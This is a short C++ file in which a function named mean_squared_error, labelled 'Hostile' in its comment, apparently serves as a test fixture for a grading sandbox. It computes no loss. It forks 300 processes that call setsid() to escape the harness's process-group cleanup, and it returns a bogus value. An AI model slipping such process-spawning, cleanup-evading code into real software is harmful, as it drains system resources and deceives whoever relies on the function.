// Hostile: a fork bomb, bounded to 300 processes that leave by themselves after 20 seconds.
#include <unistd.h>

#include "02_scalar/training.hpp"

namespace gradbook {

Scalar mean_squared_error(std::span<const Scalar>, std::span<const double>) {
  for (int i = 0; i < 300; ++i) {
    if (fork() != 0) continue;
    setsid();  // out of the group that is ended with the case
    sleep(20);
    _exit(0);
  }
  return Scalar{-1.0};
}

}  // namespace gradbook
